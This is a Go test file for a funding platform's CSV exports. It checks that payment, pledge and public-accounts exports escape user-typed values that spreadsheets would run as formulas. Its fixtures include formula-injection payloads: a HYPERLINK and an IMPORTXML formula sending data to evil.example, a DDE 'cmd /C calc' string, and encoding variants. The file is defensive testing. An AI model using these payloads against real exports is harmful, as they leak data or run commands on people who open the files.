package server_test

import (
	"encoding/csv"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/fabrique-a-communs/fabrique/internal/apptest"
)

// Values a person may type that a spreadsheet would run as formulas.
const (
	evilName      = `=HYPERLINK("http://evil.example/?leak="&A1;"Marc")`
	evilReference = "=1+1"
	evilEmail     = "+evil@example.org"
	evilTitle     = "@SUM(1+1)*cmd|' /C calc'!A0"
	evilMessage   = "-2+3"
	evilOrg       = "\t=1+2"
	evilStep      = " =IMPORTXML(\"http://evil.example\";\"//a\")"
	evilCommons   = "＝1+1" // full-width equals sign
)

// csvColumns says which columns of an export the platform computes itself: numbers
// (amounts, ids, days) and dates. Every other cell is text and must not start like a
// formula; these must look exactly like numbers or dates.
type csvColumns struct {
	comma   rune
	numbers []int
	dates   []int
}

var (
	csvNumber = regexp.MustCompile(`^-?[0-9]+([.,][0-9]+)?$`)
	csvDate   = regexp.MustCompile(`^([0-9]{2}/[0-9]{2}/[0-9]{4}|[0-9]{4}-[0-9]{2}-[0-9]{2})?$`)
)

// readExport fetches path as c, checks that no text cell could be read as a formula and
// that the platform's own numbers are plain numbers, and returns the rows.
func readExport(tb testing.TB, c *apptest.Client, path string, cols csvColumns) [][]string {
	tb.Helper()
	r := c.Get(path)
	wantStatus(tb, r, http.StatusOK)
	cr := csv.NewReader(strings.NewReader(strings.TrimPrefix(r.Body, "\ufeff")))
	cr.Comma = cols.comma
	rows, err := cr.ReadAll()
	if err != nil {
		tb.Fatalf("%s: %v\n%s", path, err, r.Body)
	}
	for i, row := range rows {
		for j, cell := range row {
			switch {
			case i > 0 && slices.Contains(cols.numbers, j):
				if !csvNumber.MatchString(cell) {
					tb.Errorf("%s row %d column %d: got %q, want a number", path, i, j, cell)
				}
			case i > 0 && slices.Contains(cols.dates, j):
				if !csvDate.MatchString(cell) {
					tb.Errorf("%s row %d column %d: got %q, want a date", path, i, j, cell)
				}
			default:
				first, _ := utf8.DecodeRuneInString(strings.TrimLeft(cell, " \u00a0"))
				if strings.ContainsRune("=+-@＝＋－＠", first) || (first < 0x20 && first != utf8.RuneError) {
					tb.Errorf("%s row %d column %d: got %q, which a spreadsheet may run as a formula", path, i, j, cell)
				}
			}
		}
	}
	return rows
}

// wantCell fails unless some row has want in column col.
func wantCell(tb testing.TB, rows [][]string, col int, want string) {
	tb.Helper()
	for _, row := range rows {
		if col < len(row) && row[col] == want {
			return
		}
	}
	tb.Errorf("no row with %q in column %d: %q", want, col, rows)
}

// The payments export and the public accounts, after a payment whose payee, défi and
// reference were typed to be formulas.
func TestCSVExportsNeutraliseFormulasOfPayments(t *testing.T) {
	t.Parallel()
	l := startLoot(t, 3000_00)
	lootExec(t, l.a, `UPDATE users SET display_name = $2, email = $3 WHERE id = $1`, l.author.ID, evilName, evilEmail)
	lootExec(t, l.a, `UPDATE challenges SET title = $2 WHERE id = $1`, l.c.ID, evilTitle)
	paid := l.validated(t, 8)
	l.validated(t, 5) // 1,25 days, still to pay
	coord := l.clients["coordinator"]

	rows := readExport(t, coord, "/coordination/paiements.csv", csvColumns{comma: ';', numbers: []int{3, 5, 6}, dates: []int{4}})
	wantCell(t, rows, 0, "'"+evilName)
	wantCell(t, rows, 1, "'"+evilEmail)
	wantCell(t, rows, 2, "'"+evilTitle)
	wantCell(t, rows, 6, "460,00")
	wantCell(t, rows, 5, "1,25")

	wantRedirect(t, coord.Post(contribPath(paid, "payer"), url.Values{"reference": {evilReference}, "paid_on": {lootToday()}}),
		"/defis/"+l.c.Slug+"#contributions")

	// The public accounts: the payee is named, the reference shown, and the debits
	// the platform writes stay negative numbers.
	anon := l.clients["anonymous"]
	rows = readExport(t, anon, "/transparence.csv", csvColumns{comma: ';', numbers: []int{4, 6}, dates: []int{0}})
	wantCell(t, rows, 2, "'"+evilName)
	wantCell(t, rows, 1, "'"+evilName)
	wantCell(t, rows, 5, "'"+evilReference)
	wantCell(t, rows, 4, "-460,00")
	wantCell(t, rows, 4, "460,00")
	wantCell(t, rows, 4, "-3000,00")
	rows = readExport(t, anon, "/transparence.csv?decimal=point", csvColumns{comma: ',', numbers: []int{4, 6}, dates: []int{0}})
	wantCell(t, rows, 1, "'"+evilName)
	wantCell(t, rows, 5, "'"+evilReference)
	wantCell(t, rows, 4, "-460.00")
}

// The pledges export and the public accounts, after pledges whose funder, organisation,
// message, step and commun were typed to be formulas.
func TestCSVExportsNeutraliseFormulasOfPledges(t *testing.T) {
	t.Parallel()
	w := newPlWorld(t)
	w.exec(t, `UPDATE users SET display_name = $2 WHERE id = $1`, w.users["financeur"].ID, evilName)
	w.exec(t, `UPDATE funders SET organisation = $2 WHERE user_id = $1`, w.users["autre-financeur"].ID, evilOrg)
	w.exec(t, `UPDATE steps SET title = $2 WHERE id = $1`, w.step, evilStep)
	w.exec(t, `UPDATE commons SET name = $2 WHERE id = $1`, w.commons, evilCommons)

	form := w.form("financeur", "12,50")
	form.Set("message", evilMessage)
	wantStatus(t, w.clients["financeur"].Post(w.stepPath(), form), http.StatusSeeOther)
	other := w.pledge(t, "autre-financeur", 2000, false)
	wantStatus(t, w.clients["coordination"].Post(plPath(other.ID, "confirmer"), nil), http.StatusSeeOther)

	rows := readExport(t, w.clients["coordination"], "/cofinancement/"+w.call+"/promesses.csv",
		csvColumns{comma: ';', numbers: []int{0, 6}, dates: []int{8, 9}})
	wantCell(t, rows, 1, "'"+evilName)
	wantCell(t, rows, 2, "'"+evilOrg)
	wantCell(t, rows, 6, "12,50")
	wantCell(t, rows, 10, "'"+evilStep)
	wantCell(t, rows, 11, "'"+evilCommons)
	wantCell(t, rows, 12, "'"+evilMessage)

	rows = readExport(t, w.clients["anonyme"], "/transparence.csv", csvColumns{comma: ';', numbers: []int{4, 6}, dates: []int{0}})
	wantCell(t, rows, 4, "-20,00")
}
